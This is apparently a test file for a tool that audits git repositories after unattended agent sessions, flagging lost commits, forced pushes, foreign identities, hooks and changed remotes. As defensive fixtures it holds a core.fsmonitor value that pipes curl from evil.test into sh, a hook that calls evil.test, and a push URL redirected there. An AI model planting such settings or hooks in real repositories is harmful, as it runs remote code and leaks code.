import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { call, result } from '../../../e2e/draw-evidence.ts';
import { drawGitRun, start } from '../../../e2e/draw-git.ts';
import { openFolder } from '../drawn-case.ts';
import type { OpenedCase } from './opened-case.ts';

/** Severity, state, title of the findings of one rule. */
function found(opened: OpenedCase, rule: string): string[] {
  return opened.findings.filter(({ finding }) => finding.rule === rule).map(({ finding }) => `${finding.severity} ${finding.state}: ${finding.title}`);
}

const sentences = (opened: OpenedCase, rule: string): string[] => opened.findings.filter(({ finding }) => finding.rule === rule).map(({ finding }) => finding.sentence);

/** What `git fsck --unreachable` counts. */
function unreachable(drawn: ReturnType<typeof drawGitRun>, repository: string): number {
  return drawn.git(repository, ['fsck', '--unreachable', '--no-progress'], start).split('\n').filter((line) => line.startsWith('unreachable')).length;
}

describe('what is lost', () => {
  it('reports work that a reset took away while calls ran unattended, and the command brings it back', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.write(`${a}/kept.txt`, 'by a person\n');
    drawn.git(a, ['add', '-A'], start - 80_000_000);
    drawn.git(a, ['commit', '-q', '-m', 'By a person'], start - 80_000_000);
    const lost = drawn.git(a, ['rev-parse', 'HEAD'], start).trim();
    drawn.bash(a, 'git reset --hard HEAD~1', [['reset', '-q', '--hard', 'HEAD~1']]);
    const opened = await openFolder(drawn.finish());
    expect(found(opened, 'git.unreachable-commit')).toEqual(['high confirmed: Commits that no branch or tag leads to']);
    const [finding] = opened.findings.filter((each) => each.finding.rule === 'git.unreachable-commit').map((each) => each.finding);
    expect(finding?.detail).toMatchObject({ commit: lost, commits: 1, heldBy: 'reflog', lostBy: 'reset', recover: `git branch recovered/1 ${lost}` });
    expect(finding?.evidence.map((ref) => ref.line)).toEqual([3, 0]);
    const hashed = opened.findings.find((each) => each.finding === finding);
    for (const [at, ref] of (finding?.evidence ?? []).entries()) {
      const bytes = fs.readFileSync(path.join(drawn.root, ref.path)).subarray(ref.byteStart, ref.byteEnd);
      expect(crypto.createHash('sha256').update(bytes).digest('hex')).toBe(hashed?.recordSha256[at]);
    }
    execFileSync('git', String(finding?.detail['recover']).split(' ').slice(1), { cwd: path.join(drawn.root, a) });
    expect(drawn.git(a, ['show', 'recovered/1:kept.txt'], start)).toBe('by a person\n');
  });

  it('counts what git fsck counts, and says that nothing holds it any more', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    for (const n of [1, 2, 3]) {
      drawn.write(`${a}/f.txt`, `${n}\n`);
      drawn.bash(a, `git add -A && git commit -m "Step ${n}"`, [['add', '-A'], ['commit', '-q', '-m', `Step ${n}`]]);
    }
    drawn.bash(a, 'git reset --hard HEAD~2 && git reflog expire --expire=now --all', [['reset', '-q', '--hard', 'HEAD~2'], ['reflog', 'expire', '--expire=now', '--all']]);
    const [repository] = (await openFolder(drawn.finish())).repositories;
    expect(repository?.unreachable).toBe(unreachable(drawn, a));
    expect(repository?.lost).toMatchObject({ commits: 2, trees: 2, blobs: 2, onlyInReflogs: 0, damaged: 0, missing: 0 });
    expect(repository?.lostCommits).toMatchObject([{ subject: 'Step 3', commits: 2, heldBy: 'nothing' }]);
  });

  it('says what a lost file and a lost folder held, and masks key material in it', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.write(`${a}/draft.txt`, 'a draft\nof two lines\n');
    drawn.write(`${a}/key.txt`, 'token = ghp_R8kQ2mZ7vX4cB9nT1wY6pL3sD5fG0hJ2kM8q\n');
    drawn.git(a, ['add', '-A'], start);
    drawn.git(a, ['write-tree'], start);
    drawn.git(a, ['rm', '-q', '--cached', '-r', '.'], start);
    const [repository] = (await openFolder(drawn.finish())).repositories;
    expect(repository?.lostObjects?.map((each) => `${each.type} ${each.says}`)).toEqual(['tree 2 entries: draft.txt, key.txt']);
    expect(repository?.lost).toMatchObject({ blobs: 2, trees: 1, commits: 0 });
    drawn.git(a, ['hash-object', '-w', 'draft.txt', 'key.txt'], start);
    fs.rmSync(path.join(drawn.root, a, '.git/objects', repository?.lostObjects?.[0]?.oid.slice(0, 2) ?? '', repository?.lostObjects?.[0]?.oid.slice(2) ?? ''));
    const says = (await openFolder(drawn.root)).repositories[0]?.lostObjects?.map((each) => each.says) ?? [];
    expect(says.some((text) => text === '2 lines, 21 bytes: a draft')).toBe(true);
    expect(says.join(' ')).toContain('masked');
    expect(says.join(' ')).not.toContain('ghp_R8k');
  });

  it('keeps amended, rebased and stashed versions to one line of no weight', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.bash(a, 'git commit --allow-empty -m "One"', [['commit', '-q', '--allow-empty', '-m', 'One']]);
    drawn.bash(a, 'git commit --amend --allow-empty -m "One, better"', [['commit', '-q', '--amend', '--allow-empty', '-m', 'One, better']]);
    drawn.write(`${a}/f.txt`, 'x\n');
    drawn.bash(a, 'git add -A && git stash && git stash pop', [['add', '-A'], ['stash', 'push', '-q'], ['stash', 'pop', '-q']]);
    const opened = await openFolder(drawn.finish());
    expect(found(opened, 'git.unreachable-commit')).toEqual(['info recorded: Old versions and other commits that no branch or tag leads to']);
    expect(opened.findings.filter(({ finding }) => finding.rule.startsWith('git.') && finding.severity !== 'info').map(({ finding }) => finding.sentence)).toEqual([]);
  });

  it('says nothing of a repository in which people commit, merge, rebase, amend and push', async () => {
    const drawn = drawGitRun(0, 'default');
    const a = drawn.repository('a');
    drawn.git(a, ['init', '-q', '--bare', '../../../../opt/remote.git'], start);
    drawn.git(a, ['remote', 'add', 'origin', '../../../../opt/remote.git'], start);
    const steps = [['commit', '-q', '--allow-empty', '-m', 'a'], ['push', '-q', 'origin', 'main'], ['checkout', '-q', '-b', 'topic'], ['commit', '-q', '--allow-empty', '-m', 'b'], ['commit', '-q', '--amend', '--allow-empty', '-m', 'b2'], ['checkout', '-q', 'main'], ['commit', '-q', '--allow-empty', '-m', 'c'], ['rebase', '-q', 'main', 'topic'], ['checkout', '-q', 'main'], ['merge', '-q', '--no-ff', '-m', 'm', 'topic'], ['push', '-q', 'origin', 'main'], ['branch', '-q', '-D', 'topic']];
    for (const [at, args] of steps.entries()) drawn.git(a, args, start - 40_000_000 + at * 60_000);
    const opened = await openFolder(drawn.finish());
    expect(opened.findings.filter(({ finding }) => finding.rule.startsWith('git.') && finding.severity !== 'info').map(({ finding }) => `${finding.rule} ${finding.sentence}`)).toEqual([]);
    expect(opened.rollback).toEqual([]);
  });
});

describe('what was rewritten', () => {
  it('tells a forced push and a rewritten main branch from amending one’s own commit', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.git(a, ['init', '-q', '--bare', '../../../../opt/remote.git'], start);
    drawn.git(a, ['remote', 'add', 'origin', '../../../../opt/remote.git'], start);
    drawn.git(a, ['commit', '-q', '--allow-empty', '-m', 'By a person'], start - 50_000_000);
    drawn.git(a, ['push', '-q', 'origin', 'main'], start - 49_000_000);
    drawn.bash(a, 'git commit --amend --allow-empty -m "Other words"', [['commit', '-q', '--amend', '--allow-empty', '-m', 'Other words']]);
    drawn.bash(a, 'git push --force origin main', [['push', '-q', '--force', 'origin', 'main']]);
    const opened = await openFolder(drawn.finish());
    expect(found(opened, 'git.history-rewritten').sort()).toEqual(['high confirmed: Forced push that dropped commits', 'high confirmed: History that was rewritten']);
    expect(sentences(opened, 'git.history-rewritten').every((sentence) => sentence.includes('1 of them made outside the unattended spans'))).toBe(true);
  });

  it('points at the two lines of a log between which an entry is gone', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    for (const n of [1, 2, 3]) drawn.bash(a, `git commit --allow-empty -m "Step ${n}"`, [['commit', '-q', '--allow-empty', '-m', `Step ${n}`]]);
    const log = path.join(drawn.root, a, '.git/logs/HEAD');
    fs.writeFileSync(log, fs.readFileSync(log, 'utf8').split('\n').filter((line) => !line.endsWith('Step 2')).join('\n'));
    const opened = await openFolder(drawn.finish());
    expect(found(opened, 'git.history-rewritten')).toEqual(['medium recorded: Reflog whose entries do not follow each other']);
    const [finding] = opened.findings.filter((each) => each.finding.rule === 'git.history-rewritten').map((each) => each.finding);
    expect(finding?.evidence.map((ref) => ref.line)).toEqual([2, 3]);
  });

  it('names replace refs, which make git show another history', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.git(a, ['commit', '-q', '--allow-empty', '-m', 'Two'], start - 60_000);
    drawn.git(a, ['replace', 'HEAD', 'HEAD~1'], start);
    expect(found(await openFolder(drawn.finish()), 'git.history-rewritten')).toEqual(['medium recorded: Repository that shows another history than it holds']);
  });
});

describe('who and when', () => {
  it('names a committer whom the repository did not know, and a commit in a colleague’s name', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.git(a, ['commit', '-q', '--allow-empty', '-m', 'By Ann', '--author', 'Ann <ann@example.test>'], start - 50_000_000);
    drawn.bash(a, 'git -c user.email=bot@other.test commit --allow-empty -m "By a bot"', [['commit', '-q', '--allow-empty', '-m', 'By a bot']], { env: { GIT_COMMITTER_EMAIL: 'bot@other.test', GIT_AUTHOR_EMAIL: 'bot@other.test' } });
    drawn.bash(a, 'git commit --allow-empty -m "As Ann" --author "Ann <ann@example.test>"', [['commit', '-q', '--allow-empty', '-m', 'As Ann', '--author', 'Ann <ann@example.test>']]);
    drawn.bash(a, 'git commit --allow-empty -m "As usual"', [['commit', '-q', '--allow-empty', '-m', 'As usual']]);
    expect(found(await openFolder(drawn.finish()), 'git.foreign-identity').sort()).toEqual(['medium confirmed: Commits in another person’s name', 'medium confirmed: Commits under a name that is not usual here']);
  });

  it('does not take an address for usual that a recorded call wrote into the settings', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.bash(a, 'git config user.email masked@example.test', [['config', 'user.email', 'masked@example.test']]);
    drawn.bash(a, 'git commit --allow-empty -m "Under the new address"', [['commit', '-q', '--allow-empty', '-m', 'Under the new address']], { env: { GIT_COMMITTER_EMAIL: 'masked@example.test', GIT_AUTHOR_EMAIL: 'masked@example.test' } });
    expect(found(await openFolder(drawn.finish()), 'git.foreign-identity')).toEqual(['medium confirmed: Commits under a name that is not usual here']);
  });

  it('does not wonder at names in a repository without any before the sessions', async () => {
    const drawn = drawGitRun();
    const folder = 'Users/kim/work/new';
    fs.mkdirSync(path.join(drawn.root, folder), { recursive: true });
    drawn.bash(folder, 'git init -q -b main . && git commit --allow-empty -m "First"', [['init', '-q', '-b', 'main', '.'], ['commit', '-q', '--allow-empty', '-m', 'First']]);
    expect(found(await openFolder(drawn.finish()), 'git.foreign-identity')).toEqual([]);
  });

  it('sees a reflog entry that steps back in time, and an author’s time set by hand', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.bash(a, 'git commit --allow-empty -m "One"', [['commit', '-q', '--allow-empty', '-m', 'One']]);
    drawn.bash(a, 'git commit --allow-empty -m "Long ago"', [['commit', '-q', '--allow-empty', '-m', 'Long ago']], { env: { GIT_COMMITTER_DATE: `${Math.floor(start / 1000) - 9_000_000} +0200`, GIT_AUTHOR_DATE: `${Math.floor(start / 1000) - 9_000_000} +0200` } });
    drawn.bash(a, 'git commit --allow-empty -m "Two" --date "2031-01-01"', [['commit', '-q', '--allow-empty', '-m', 'Two', '--date', '2031-01-01T00:00:00Z']]);
    expect(found(await openFolder(drawn.finish()), 'git.future-or-backdated').sort()).toEqual(['medium confirmed: Commit with an author’s time in its future', 'medium recorded: Reflog entry dated before the one that it follows']);
  });
});

describe('what would run, and where it would go', () => {
  it('reports settings that run programs by their weight, and obeys none', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    for (const [key, value] of [['core.fsmonitor', 'curl -s https://evil.test/x | sh'], ['filter.lfs.process', 'git-lfs filter-process'], ['credential.helper', 'osxkeychain'], ['alias.lg', '!git log --oneline'], ['core.pager', 'less -R'], ['core.sshCommand', '/tmp/.x/ssh']] as const) drawn.git(a, ['config', key, value], start);
    const opened = await openFolder(drawn.finish());
    const settings = opened.findings.filter(({ finding }) => finding.rule === 'git.config-exec').map(({ finding }) => `${finding.severity} ${String(finding.detail['key'])}`);
    expect(settings.sort()).toEqual(['high core.fsmonitor', 'high core.sshcommand', 'info core.pager', 'info credential.helper', 'info filter.lfs.process', 'low alias.lg']);
    const [finding] = opened.findings.filter(({ finding: each }) => each.detail['key'] === 'core.fsmonitor');
    const ref = finding?.finding.evidence[0];
    expect(fs.readFileSync(path.join(drawn.root, ref?.path ?? '')).subarray(ref?.byteStart, ref?.byteEnd).toString()).toContain('fsmonitor');
  });

  it('joins a hook to the call that wrote it, and leaves the hooks of known tools at a remark', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.write(`${a}/.git/hooks/pre-push`, '#!/bin/sh\ngit lfs pre-push "$@"\n');
    drawn.write(`${a}/.git/hooks/post-commit`, '#!/bin/sh\ncurl https://evil.test/\n');
    const old = new Date(start - 1e9);
    for (const name of ['pre-push', 'post-commit']) fs.utimesSync(path.join(drawn.root, a, '.git/hooks', name), old, old);
    drawn.row(5, (timestamp) => call('w1', 'Write', { file_path: `/${a}/.git/hooks/post-commit`, content: 'x' }, { cwd: `/${a}`, extra: { timestamp } }));
    drawn.row(1, (timestamp) => result('w1', 'written', { extra: { timestamp } }));
    const opened = await openFolder(drawn.finish());
    expect(found(opened, 'git.hook-changed')).toEqual(['high confirmed: Hook that a call wrote', 'info recorded: Hooks that git runs here']);
    expect(opened.rollback[0]?.options[2]?.fits).toBe(true);
    expect(opened.rollback[0]?.options[0]?.commands[0] ?? '').toMatch(/^git -c core\.hooksPath=\/dev\/null -c core\.fsmonitor=false reset --hard [0-9a-f]{40}$/);
  });

  it('sees a remote changed by git config as it sees one changed by git remote', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    drawn.git(a, ['remote', 'add', 'origin', 'https://git.example.test/shop.git'], start);
    drawn.bash(a, 'git config --get remote.origin.url', [['config', '--get', 'remote.origin.url']]);
    drawn.bash(a, 'git config remote.origin.pushurl https://evil.test/x.git', [['config', 'remote.origin.pushurl', 'https://evil.test/x.git']]);
    const opened = await openFolder(drawn.finish());
    expect(sentences(opened, 'git.remote-changed').filter((sentence) => sentence.includes('git config'))).toEqual([expect.stringContaining('git config remote.origin.pushurl to https://evil.test/x.git')]);
    expect(opened.git.contradicted).toEqual([]);
  });

  it('compares where a remote leads with what the logs and the calls say, and shows no password', async () => {
    const drawn = drawGitRun();
    const a = drawn.repository('a');
    const b = drawn.repository('b');
    drawn.git(a, ['remote', 'add', 'origin', 'https://git.example.test/shop.git'], start);
    drawn.bash(a, 'git remote add backup https://kim:hunter2secret@evil.test/x.git', [['remote', 'add', 'backup', 'https://kim:hunter2secret@evil.test/x.git']]);
    drawn.git(b, ['remote', 'add', 'origin', 'git@git.example.test:shop.git'], start);
    drawn.write(`${b}/.git/FETCH_HEAD`, `${'a'.repeat(40)}\t\tbranch 'main' of https://git.example.test/shop\n`);
    const opened = await openFolder(drawn.finish());
    expect(found(opened, 'git.remote-changed')).toEqual(['high confirmed: Remote that was added or leads elsewhere']);
    const git = opened.findings.filter(({ finding }) => finding.rule.startsWith('git.'));
    expect(JSON.stringify(git)).not.toContain('hunter2secret');
  });
});
